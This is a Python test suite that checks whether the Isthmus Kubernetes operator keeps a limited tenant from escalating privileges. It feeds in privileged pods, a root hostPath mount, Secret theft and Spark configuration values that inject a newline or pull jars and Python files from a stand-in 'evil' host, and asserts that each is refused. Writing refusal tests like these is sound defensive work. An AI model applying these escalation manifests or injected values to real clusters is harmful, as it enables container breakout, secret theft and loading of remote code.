"""What a tenant that may write all Isthmus resources, and nothing else, can reach by them: nothing that it may not.

The API server refuses each try: by RBAC, by the schemas, or by the admission policies of the chart.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from . import installation
from .harness.cluster import Cluster
from .harness.host import CommandError

SIDE = {"name": "side", "image": "evil:1"}


def resource(kind: str, **spec: Any) -> dict[str, Any]:
    return {"apiVersion": "isthmus.dev/v1alpha1", "kind": kind, "metadata": {"name": "x"}, "spec": spec}


def router(**pod: Any) -> dict[str, Any]:
    return resource("Router", podTemplate={"spec": pod})


def labelled(kind: str, **keys: str) -> dict[str, Any]:
    return resource("Router", podTemplate={"metadata": {kind: keys}})


def near(**term: Any) -> dict[str, Any]:
    """A Router away from other pods."""
    item = {"topologyKey": "kubernetes.io/os", "labelSelector": {}, **term}
    rules = {
        "requiredDuringSchedulingIgnoredDuringExecution": [item],
        "preferredDuringSchedulingIgnoredDuringExecution": [{"weight": 1, "podAffinityTerm": item}],
    }
    return router(affinity={"podAntiAffinity": rules})


def mounting(volume: str) -> dict[str, Any]:
    side = {**SIDE, "volumeMounts": [{"name": volume, "mountPath": "/mnt"}]}
    return router(initContainers=[side])


def analysis(**spec: Any) -> dict[str, Any]:
    return resource("FlowAnalysis", flowLogRef={"name": "flows"}, **spec)


def site(**spec: Any) -> dict[str, Any]:
    return resource("RelaySite", routerRef={"name": "hub"}, group="g", site="x", **spec)


def plain(
    kind: str, version: str = "v1", labels: dict[str, str] | None = None, **fields: Any
) -> dict[str, Any]:
    metadata = {"name": "x", "labels": labels or {}}
    return {"apiVersion": version, "kind": kind, "metadata": metadata, **fields}


POD = plain("Pod", spec={"containers": [SIDE]})
LOG = {"routerRef": {"name": "hub"}, "volume": {"size": "1Gi"}}
RBAC = "rbac.authorization.k8s.io/v1"
ROLE = {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "x"}
DRIVER = {**ROLE, "name": "isthmus-flow-driver"}
SUBJECT = {"kind": "ServiceAccount", "name": "tenant", "namespace": "default"}

BY_RESOURCES: list[tuple[str, dict[str, Any]]] = [
    ("hostNetwork", router(hostNetwork=True)),
    ("hostPID", router(hostPID=True)),
    ("hostIPC", router(hostIPC=True)),
    ("hostUsers", router(hostUsers=True)),
    ("nodeName", router(nodeName="control-plane")),
    ("serviceAccountName", router(serviceAccountName="isthmus-operator")),
    ("automountServiceAccountToken", router(automountServiceAccountToken=True)),
    ("shareProcessNamespace", router(shareProcessNamespace=True)),
    ("hostAliases", router(hostAliases=[{"ip": "10.0.0.1", "hostnames": ["a"]}])),
    ("dnsConfig", router(dnsConfig={"nameservers": ["203.0.113.1"]})),
    ("volumes", router(volumes=[{"name": "h", "hostPath": {"path": "/"}}])),
    ("volumes", router(volumes=[{"name": "s", "secret": {"secretName": "others"}}])),
    ("volumes", router(volumes=[{"name": "t", "projected": {"sources": []}}])),
    ("containers", router(containers=[{"name": "router", "command": ["sh"]}])),
    ("containers", router(containers=[{"name": "router", "securityContext": {"privileged": True}}])),
    ("containers", router(containers=[{"name": "router", "image": "evil:1"}])),
    ("containers", router(containers=[{"name": "router", "envFrom": [{"secretRef": {"name": "others"}}]}])),
    ("spec.image", resource("Router", image="evil:1")),
    ("spec.image", resource("Router", image="evil:1\nx")),
    ("spec.image", resource("GossipRouter", image="evil:1")),
    ("spec.image", resource("FlowLog", **LOG, image="evil:1")),
    ("spec.image", analysis(image="evil:1")),
    ("hostNetwork", resource("GossipRouter", podTemplate={"spec": {"hostNetwork": True}})),
    ("hostNetwork", resource("FlowLog", **LOG, podTemplate={"spec": {"hostNetwork": True}})),
    ("serviceAccountName", analysis(podTemplate={"spec": {"serviceAccountName": "isthmus-operator"}})),
    ("containers", analysis(podTemplate={"spec": {"containers": [{"name": "driver", "args": ["x"]}]}})),
    ("sparkConf", analysis(sparkConf={"spark.task.cpus": "1\nspark.jars http://evil/x.jar"})),
    ("sparkConf", analysis(sparkConf={"spark.kubernetes.namespace": "kube-system"})),
    ("sparkConf", analysis(sparkConf={"spark.submit.pyFiles": "http://evil/x.py"})),
    ("sparkConf", analysis(sparkConf={"spark.authenticate": "false"})),
]
LISTENER = {"name": "a", "port": 5672, "exposure": "NodePort"}
HOSTNAME = {"external-dns.alpha.kubernetes.io/hostname": "bank.example"}
BY_RESOURCES += [
    ("metadata.annotations", labelled("annotations", **{"sidecar.istio.io/proxyImage": "evil:1"})),
    ("metadata.annotations", labelled("annotations", **{"isthmus.dev/restart-hash": "x"})),
    ("metadata.labels", labelled("labels", **{"sidecar.istio.io/inject": "true"})),
    ("metadata.labels", labelled("labels", app="postgres")),
    ("serviceAnnotations", resource("Router", listeners=[{**LISTENER, "serviceAnnotations": HOSTNAME}])),
    ("serviceAnnotations", resource("GossipRouter", expose="NodePort", serviceAnnotations=HOSTNAME)),
    ("serviceAnnotations", site(bridge={"serviceAnnotations": HOSTNAME})),
    ("priorityClassName", router(priorityClassName="high")),
    ("affinity", near(namespaceSelector={})),
    ("affinity", near(namespaces=["kube-system"])),
    ("volumeMounts", mounting("config")),
    ("volumeMounts", mounting("tls")),
    ("volumes", router(volumes=[{"name": "p", "persistentVolumeClaim": {"claimName": "others"}}])),
    ("volumes", router(volumes=[{"name": "e", "ephemeral": {}}])),
    ("imagePullSecrets", router(imagePullSecrets=[{"name": "x", "namespace": "kube-system"}])),
    ("securityContext", router(securityContext={"fsGroup": 26})),
    ("securityContext", router(securityContext={"supplementalGroups": [26]})),
    ("claimName", resource("FlowLog", routerRef={"name": "hub"}, volume={"claimName": "others"})),
    ("exposure", resource("Router", listeners=[{**LISTENER, "exposure": "LoadBalancer"}])),
    ("expose", resource("GossipRouter", expose="LoadBalancer")),
    ("expose", site(bridge={"expose": "LoadBalancer"})),
]
DIRECTLY: list[tuple[str, dict[str, Any]]] = [
    ("forbidden", POD),
    ("forbidden", plain("Secret")),
    ("forbidden", plain("RoleBinding", RBAC, roleRef=ROLE, subjects=[SUBJECT])),
]
OURS = {"app.kubernetes.io/managed-by": "isthmus-operator"}
TOKEN = plain("Secret", labels=OURS, type="kubernetes.io/service-account-token")
TOKEN["metadata"]["annotations"] = {"kubernetes.io/service-account.name": "default"}
BY_THE_OPERATOR: list[tuple[str, dict[str, Any]]] = [
    ("makes no tokens", TOKEN),
    ("only Secrets of its own", plain("Secret")),
    ("only Secrets of its own", plain("Secret", labels={"app.kubernetes.io/managed-by": "Helm"})),
    ("accounts of the same namespace", plain("RoleBinding", RBAC, roleRef=DRIVER, subjects=[SUBJECT])),
    ("forbidden", plain("RoleBinding", RBAC, roleRef=ROLE, subjects=[SUBJECT])),
    ("forbidden", POD),
]
OF_OTHERS = (
    plain("ServiceAccount"),
    plain("ConfigMap", data={"a": "b"}),
    plain("Service", spec={"ports": [{"port": 80}], "selector": {"a": "b"}}),
    plain("NetworkPolicy", "networking.k8s.io/v1", spec={"podSelector": {}}),
)


class Place:
    """A namespace with an operator, and a tenant that may write all Isthmus resources there, and nothing else."""

    def __init__(self, cluster: Cluster, namespace: str) -> None:
        self._cluster = cluster
        self._namespace = namespace
        subject = {"kind": "ServiceAccount", "name": "tenant", "namespace": namespace}
        rules = [{"apiGroups": ["isthmus.dev"], "resources": ["*"], "verbs": ["*"]}]
        cluster.apply(
            plain("Role", RBAC, rules=rules),
            plain("RoleBinding", RBAC, roleRef=ROLE, subjects=[subject]),
            namespace=namespace,
        )

    def allow_pods(self, account: str) -> None:
        """Give a service account the right to create pods, as drivers have it."""
        subject = {"kind": "ServiceAccount", "name": account, "namespace": self._namespace}
        rules = [{"apiGroups": [""], "resources": ["pods"], "verbs": ["create"]}]
        role = {**plain("Role", RBAC, rules=rules), "metadata": {"name": account}}
        reference = {**ROLE, "name": account}
        binding = {
            **plain("RoleBinding", RBAC, roleRef=reference, subjects=[subject]),
            "metadata": {"name": account},
        }
        self._cluster.apply(role, binding, namespace=self._namespace)

    def create(self, account: str, manifest: dict[str, Any]) -> None:
        """As this service account; nothing is stored."""
        self.kubectl(
            *("create", "--dry-run=server", "--filename=-"), input=json.dumps(manifest), as_account=account
        )

    def kubectl(self, *words: str, input: str | None = None, as_account: str | None = None) -> None:
        """As the administrator, or as a service account."""
        place = [f"--namespace={self._namespace}"]
        if as_account is not None:
            place.append(f"--as=system:serviceaccount:{self._namespace}:{as_account}")
        self._cluster.kubectl(*words, *place, input=input)

    def refused(self, account: str, word: str, manifest: dict[str, Any]) -> None:
        """It must not create this, and the answer has `word` in it."""
        with pytest.raises(CommandError) as error:
            self.create(account, manifest)
        assert word in error.value.output, manifest


@pytest.fixture(scope="module")
def place(cluster: Cluster) -> Iterator[Place]:
    with (
        installation.schemas(cluster),
        cluster.namespace("tenant") as name,
        installation.operator(cluster, name),
    ):
        yield Place(cluster, name)


def test_the_tenant_may_write_what_it_is_meant_to(place: Place) -> None:
    for manifest in (
        resource("Router"),
        router(nodeSelector={"a": "b"}),
        analysis(schedule="@daily"),
        site(bridge={"serviceAnnotations": {"owner": "me"}}),
        labelled("annotations", **{"prometheus.io/scrape": "false"}, owner="me"),
        labelled("labels", **{"app.kubernetes.io/version": "1"}),
        near(),
        resource("Router", listeners=[LISTENER]),
        resource("FlowLog", **LOG),
        mounting("mine"),
    ):
        place.create("tenant", manifest)


def test_no_resource_of_a_tenant_gets_rights(place: Place) -> None:
    for word, manifest in (*BY_RESOURCES, *DIRECTLY):
        place.refused("tenant", word, manifest)


def test_a_driver_makes_no_pod_with_the_account_of_the_operator(place: Place) -> None:
    """It could read all Secrets that the operator may read."""
    place.allow_pods("driver")
    confined = {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
    spec = {
        "containers": [{**SIDE, "securityContext": confined}],
        "securityContext": {"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}},
    }
    pod = plain("Pod", spec=spec)
    place.create("driver", pod)
    pod["spec"]["serviceAccountName"] = "isthmus-operator"
    place.refused("driver", "with the account of the operator of Isthmus", pod)


def test_the_operator_itself_cannot_write_what_its_code_never_writes(place: Place) -> None:
    for word, manifest in BY_THE_OPERATOR:
        place.refused("isthmus-operator", word, manifest)


def test_the_operator_itself_cannot_change_or_delete_what_is_not_its_own(place: Place) -> None:
    for manifest in OF_OTHERS:
        kind = manifest["kind"]
        place.kubectl("create", "--filename=-", input=json.dumps(manifest))
        change = ("annotate", kind, "x", "a=b")
        for words in (change, ("delete", kind, "x")) if kind in {"Service", "NetworkPolicy"} else (change,):
            with pytest.raises(CommandError) as error:
                place.kubectl(*words, "--dry-run=server", as_account="isthmus-operator")
            assert "only objects of its own" in error.value.output, words
        place.kubectl("label", kind, "x", "app.kubernetes.io/managed-by=isthmus-operator")
        place.kubectl(*change, "--dry-run=server", as_account="isthmus-operator")
        place.kubectl("delete", kind, "x")
